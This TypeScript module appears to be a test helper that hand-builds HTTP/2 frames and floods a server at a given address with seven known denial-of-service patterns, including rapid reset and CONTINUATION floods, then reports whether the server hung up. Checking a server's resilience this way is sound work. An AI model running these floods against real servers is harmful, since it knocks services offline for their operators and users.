/** What somebody hostile writes on an HTTP/2 connection, frame by frame: the known ways to make a server work for nothing. */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

export const ATTACKS = [
  "rapid reset",
  "made you reset",
  "settings",
  "ping",
  "continuation",
  "empty data",
  "open streams",
] as const;
export type Attack = (typeof ATTACKS)[number];

const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK without its tables: each field is a literal that nobody remembers. */
function fields(list: readonly (readonly [name: string, value: string])[]): Buffer {
  const text = (value: string) => {
    const bytes = Buffer.from(value);
    const long =
      bytes.length >= 127 ? [127, ((bytes.length - 127) % 128) | 128, Math.floor((bytes.length - 127) / 128)] : null;
    return Buffer.concat([Buffer.from(long ?? [bytes.length]), bytes]);
  };
  return Buffer.concat(list.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const REQUEST = fields([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/kas.agent.v1.AgentTunnel/Connect"],
  [":authority", "kas"],
  ["content-type", "application/grpc"],
  ["te", "trailers"],
]);
const request = (stream: number) => frame(FRAME.headers, END_HEADERS, stream, REQUEST);

/** What comes before the flood, and its nth piece. */
const PIECES: Readonly<Record<Attack, readonly [before: Buffer | null, piece: (n: number) => Buffer]>> = {
  "rapid reset": [null, (n) => Buffer.concat([request(2 * n + 1), frame(FRAME.reset, 0, 2 * n + 1, CANCEL)])],
  "made you reset": [
    null,
    (n) => Buffer.concat([request(2 * n + 1), frame(FRAME.windowUpdate, 0, 2 * n + 1, Buffer.alloc(4))]),
  ],
  settings: [null, (n) => frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, n % 255]))],
  ping: [null, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))],
  continuation: [
    frame(FRAME.headers, 0, 1, REQUEST),
    (n) => frame(FRAME.continuation, 0, 1, fields([[`x-${n}`, "a".repeat(1_000)]])),
  ],
  "empty data": [request(1), () => frame(FRAME.data, 0, 1)],
  "open streams": [null, (n) => request(2 * n + 1)],
};

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FRAME.settings, 0, 0)]);
const PIECES_A_WRITE = 50;

/**
 * Writes so many pieces, as fast as they are taken and at most for `within`; true when the server closed the connection. `ca`: over
 * TLS.
 */
export async function attack(
  kind: Attack,
  address: string,
  pieces: number,
  within: number,
  ca?: string,
): Promise<boolean> {
  const [host = "", port] = address.split(":");
  const socket =
    ca === undefined
      ? connect(Number(port), host)
      : connectTls({ host, port: Number(port), ca, ALPNProtocols: ["h2"] });
  const until = performance.now() + within;
  socket.on("error", () => {});
  socket.resume(); // answers are of no interest, but their writer must not stall
  const [before, piece] = PIECES[kind];
  socket.write(before ? Buffer.concat([PREFACE, before]) : PREFACE);
  for (let n = 0; n < pieces && !socket.destroyed && performance.now() < until; n += PIECES_A_WRITE) {
    const batch = Buffer.concat(Array.from({ length: PIECES_A_WRITE }, (_, i) => piece(n + i)));
    if (!socket.write(batch)) await taken(socket, until);
  }
  const closed = socket.destroyed || socket.readableEnded;
  socket.destroy();
  return closed;
}

async function taken(socket: Socket, until: number): Promise<void> {
  const over = new AbortController();
  const timer = setTimeout(() => over.abort(), Math.max(1, Math.ceil(until - performance.now())));
  const { signal } = over;
  await Promise.race([once(socket, "drain", { signal }), once(socket, "close", { signal })]).catch(() => {});
  clearTimeout(timer);
  over.abort(); // takes the listeners off that heard nothing
}
